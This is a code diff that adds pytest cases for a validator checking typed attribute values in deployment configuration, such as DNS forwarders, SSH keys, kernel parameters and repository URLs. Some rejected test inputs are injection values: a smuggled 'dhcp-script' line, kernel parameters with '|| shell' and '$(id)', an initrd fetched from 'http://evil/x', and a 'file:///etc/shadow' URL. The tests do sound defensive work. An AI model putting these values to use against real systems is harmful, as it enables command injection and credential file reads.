@@ -145,3 +145,60 @@ def test_attributes_that_are_not_finite_numbers(tmp_path: Path, old: str, new: s
     with pytest.raises(AnswersError) as caught:
         load(file)
     assert [(p.path, p.message) for p in caught.value.problems] == [(path, message)]
+
+
+
+KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDTnhKF4dXG8xSatgZHn28pPMKhbLeZn60JyXL2ZKZke"
+
+
+@pytest.mark.parametrize(("barclamp", "attribute", "value", "problem"), [
+    ("dns", "forwarders", ["8.8.8.8", "9.9.9.9"], None),
+    ("dns", "forwarders", ["8.8.8.8\ndhcp-script=/tmp/x"], "item 1: holds a line break"),
+    ("dns", "forwarders", ["8.8.8.8 9.9.9.9"], "item 1: '8.8.8.8 9.9.9.9' is not an IPv4"),
+    ("dns", "forwarders", [8], "item 1: expected a string, not int"),
+    ("dns", "allow_recursion", ["10.0.0.0/8"], None),
+    ("dns", "allow_recursion", ["10.0.0.1/8"], "item 1: 10.0.0.1/8 has host bits set"),
+    ("dns", "static_records", ["sw1=192.168.124.250", "pdu.rack1=10.0.0.9"], None),
+    ("dns", "static_records", ["sw1"], "item 1: 'sw1' is not a record: write NAME=ADDRESS"),
+    ("dns", "static_records", ["sw1 = 10.0.0.1"], "item 1: write it as 'sw1=10.0.0.1'"),
+    ("provisioner", "access_keys", [KEY, f"{KEY} ops@laptop"], None),
+    ("provisioner", "access_keys", [{"key": KEY}], "item 1: expected a string, not dict"),
+    ("provisioner", "access_keys", ["not a key"], "item 1: 'not a key' is not an OpenSSH"),
+    ("provisioner", "access_keys", KEY, "expected a list"),
+    ("provisioner", "serial_console", "", None),
+    ("provisioner", "serial_console", "ttyS1,115200n8", None),
+    ("provisioner", "serial_console", "ttyS1 shell", "'ttyS1 shell' is not a kernel console"),
+    ("provisioner", "kernel_params", "", None),
+    ("provisioner", "kernel_params", "quiet console=tty0 net.ifnames=0 rd.lvm=0", None),
+    ("provisioner", "kernel_params", "quiet || shell", "'||' is not a kernel parameter"),
+    ("provisioner", "kernel_params", "x=$(id)", "'x=$(id)' is not a kernel parameter"),
+    ("provisioner", "kernel_params", 'a="b c"', "'a=\"b' is not a kernel parameter"),
+    ("provisioner", "kernel_params", "quiet\ninitrd http://evil/x", "holds a line break"),
+    ("ntp", "upstream_servers", ["pool.ntp.org", "10.0.0.1"], None),
+    ("logging", "external_servers", ["logs.example.com:6514"], None),
+    ("logging", "external_servers", ["logs.example.com:0"], "item 1: 'logs.example.com:0' has"),
+    ("cloudera_manager", "repository_url", "", None),
+    ("cloudera_manager", "repository_url", "https://archive.example.com/cm7/", None),
+    ("cloudera_manager", "repository_url", "file:///etc/shadow",
+     "'file:///etc/shadow' is not an http(s) or ftp URL"),
+    ("ceph", "fsid", "7d3a9c2e-3b6f-4c55-9e57-1b2d8e0f4a11", None),
+    ("ceph", "fsid", "7d3a9c2e", "'7d3a9c2e' is not a UUID"),
+    ("zookeeper", "data_dir", "/var/lib/zk data", "'/var/lib/zk data' is not an absolute path"),
+    ("nova_dashboard", "site_branding", "Cloud\rX", "holds a carriage return"),
+    ("rabbitmq", "user", "a\u2028b", "holds a control character (U+2028)"),
+])
+def test_attributes_are_typed(barclamp: str, attribute: str, value: object,
+                              problem: str | None) -> None:
+    """What reaches a rendered file is parsed: addresses, keys, consoles, kernel parameters;
+    no string attribute (or list item) holds a control character."""
+    found = default_catalog()[barclamp].attributes[attribute].check(value)
+    if problem is None:
+        assert found is None
+    else:
+        assert found is not None and found.startswith(problem), found
+
+
+def test_barclamps_show_names_formats(capsys) -> None:
+    assert main(["barclamps", "show", "provisioner"]) == 0
+    out = capsys.readouterr().out
+    assert "list of ssh_public_key" in out and "string: console" in out
